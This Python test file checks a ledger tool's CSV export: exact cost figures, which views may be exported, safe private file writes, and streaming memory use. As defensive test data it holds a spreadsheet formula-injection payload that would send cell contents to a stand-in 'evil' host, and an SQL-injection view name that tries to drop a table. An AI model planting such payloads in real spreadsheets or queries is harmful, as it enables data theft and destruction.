"""Views as CSV: every public one, exact, streamed, and written like any other file of ours."""

import csv
import io
import stat
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from export_rows import Rows, open_rows

from ledger import errors
from ledger.__main__ import main
from ledger.client import Ledger

FORMULA = '=HYPERLINK("http://evil/"&A1,"caller")'


@pytest.fixture
def rows(tmp_path: Path) -> Iterator[Rows]:
    opened = open_rows(tmp_path / "home")
    yield opened
    opened.books.close()


@pytest.fixture
def ledger(rows: Rows) -> Iterator[Ledger]:
    opened = Ledger(home=rows.home, background=False)
    yield opened
    opened.close()


def read(pieces: Iterator[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(pieces).decode(), newline="")))


def test_every_row_of_the_view_is_there_exact_and_oldest_first(rows: Rows, ledger: Ledger) -> None:
    caller = rows.caller("flow", None)
    for pico in (1, 10**15 + 7, None):
        rows.call(caller, pico, model=FORMULA, prompt_tokens=3)
    rows.book()
    found = read(ledger.csv())
    seen = list(ledger.requests())
    assert [each["id"] for each in found] == [each.id for each in seen]
    assert [each["cost_usd"] for each in found] == ["0.000000000001", "1000.000000000007", ""]
    assert [each["cost_pico"] for each in found] == ["1", "1000000000000007", ""]
    assert {each["model"] for each in found} == {f"'{FORMULA}"}
    assert list(found[0]) == list(type(seen[0]).columns())


def test_a_cheaper_settlement_is_a_negative_number(rows: Rows, ledger: Ledger) -> None:
    rows.call(rows.caller("flow", None), 5, generation_id="gen-1")
    rows.generation("gen-1", 2)
    rows.book()
    (row,) = read(ledger.csv("cost_difference"))
    assert row["difference_pico"] == "-3"
    assert row["difference_usd"] == "-0.000000000003"


def test_every_public_view_can_be_exported_and_no_other(rows: Rows, ledger: Ledger) -> None:
    rows.call(rows.caller("flow", None), 1)
    rows.book()
    with pytest.raises(errors.RequestInvalid) as caught:
        list(ledger.csv("sqlite_master; DROP TABLE request"))
    views = caught.value.hint.removeprefix("Choose one of ").rstrip(".").split(", ")
    assert {"request_status", "generation_metrics", "caller_usage", "cost_difference"} <= set(views)
    assert not [view for view in views if view.startswith("export_")]
    for view in views:
        assert b"," in b"".join(ledger.csv(view))
    with pytest.raises(errors.RequestInvalid):
        list(ledger.csv("request"))


def test_a_file_is_private_whole_and_not_written_twice(
    rows: Rows, ledger: Ledger, tmp_path: Path
) -> None:
    rows.call(rows.caller("flow", None), 1)
    rows.book()
    precious, target = tmp_path / "precious", tmp_path / "usage.csv"
    precious.write_text("precious")
    target.symlink_to(precious)
    made = ledger.export_csv(target, "caller_usage")
    assert (made.rows, made.view, made.written) == (1, "caller_usage", True)
    assert precious.read_text() == "precious"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    before = target.stat()
    assert not ledger.export_csv(target, "caller_usage").written
    assert target.stat().st_mtime_ns == before.st_mtime_ns
    assert target.read_bytes() == b"".join(ledger.csv("caller_usage"))


def test_a_file_that_cannot_be_written_is_named(ledger: Ledger, rows: Rows, tmp_path: Path) -> None:
    rows.book()
    with pytest.raises(errors.SnapshotFailed, match="nowhere"):
        ledger.export_csv(tmp_path / "nowhere" / "x.csv")
    (tmp_path / "x.csv").mkdir()
    with pytest.raises(errors.SnapshotFailed, match=r"x\.csv"):
        ledger.export_csv(tmp_path / "x.csv")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "x.csv"]


@pytest.mark.one_engine
def test_many_rows_take_little_memory(rows: Rows, ledger: Ledger) -> None:
    caller = rows.caller("flow", None)
    for number in range(12_000):
        rows.call(caller, number, model="openai/gpt-4o")
    rows.book()
    next(ledger.csv())
    tracemalloc.start()
    try:
        size = sum(map(len, ledger.csv()))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert size > 2_000_000
    assert peak < 1_500_000


def test_the_command_streams_to_stdout_or_writes_a_file(
    rows: Rows, ledger: Ledger, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    rows.call(rows.caller("flow", None), 1)
    rows.book()
    home, target = str(rows.home), tmp_path / "usage.csv"
    assert main(["export", "--format", "csv", "--home", home]) == 0
    assert capfdbinary.readouterr().out == b"".join(ledger.csv())
    assert main(["export", "--format", "csv", "--view", "caller_usage", "--to", str(target),
                 "--home", home]) == 0  # fmt: skip
    assert capfdbinary.readouterr().out.decode().strip() == f"{target}: 1 rows of caller_usage"
    assert target.read_bytes() == b"".join(ledger.csv("caller_usage"))
    assert main(["export", "--format", "csv", "--to", str(target), "--json", "-q",
                 "--home", home]) == 0  # fmt: skip
    assert b'"view": "request_status"' in capfdbinary.readouterr().out


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["--view", "caller_usage"], "--view goes with --format csv"),
        (["--to", "x.csv"], "--to goes with --format csv"),
        (["--format", "csv", "--all"], "--all goes with the JSON files"),
        (["--format", "csv", "--json"], "name the file with --to"),
        (["--format", "xls"], "json, csv"),
        (["--format", "csv", "--view", "nope"], "caller_usage"),
    ],
)
def test_options_that_mean_nothing_together_are_wrong_usage(
    rows: Rows, capsys: pytest.CaptureFixture[str], options: list[str], says: str
) -> None:
    rows.book()
    assert main(["--home", str(rows.home), "export", *options]) in {2, 3}
    captured = capsys.readouterr()
    assert captured.out == ""
    assert says in captured.err
